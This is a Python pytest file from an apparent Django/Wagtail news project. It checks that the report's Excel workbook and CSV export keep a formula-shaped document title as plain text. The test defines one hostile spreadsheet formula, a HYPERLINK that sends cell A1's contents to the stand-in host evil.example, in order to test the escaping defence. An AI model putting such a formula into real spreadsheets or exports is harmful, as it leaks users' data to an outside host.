"""The report's workbook and CSV keep a hostile title as text: Excel never runs it as a formula."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from wagtail.models import Site

from news57.models import DirectiveDocument, Publication
from news57.promptness.periods import Period
from news57.promptness.reports import make_report
from news57.promptness.spreadsheets import documents_csv_text, workbook

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_a_title_that_looks_like_a_formula_stays_text(platform):
    document = DirectiveDocument.objects.create(code="9/KH-UBND", title=HOSTILE, issuer=platform["langson"].agency)
    site = Site.objects.select_related("agency", "root_page").get(pk=platform["langson"].site.pk)
    Publication.objects.create(document=document, site=site, due_at=datetime(2025, 6, 3, 17, tzinfo=ZoneInfo("UTC")))
    report = make_report(Period.parse("2025-06"), [site], site.agency)
    sheet = load_workbook(io.BytesIO(workbook(report)))["Văn bản"]
    cell = sheet["B3"]
    assert cell.value == HOSTILE and cell.data_type == "s"
    (row,) = list(csv.reader(io.StringIO(documents_csv_text(report)[1:])))[1:]
    assert row[1] == "'" + HOSTILE
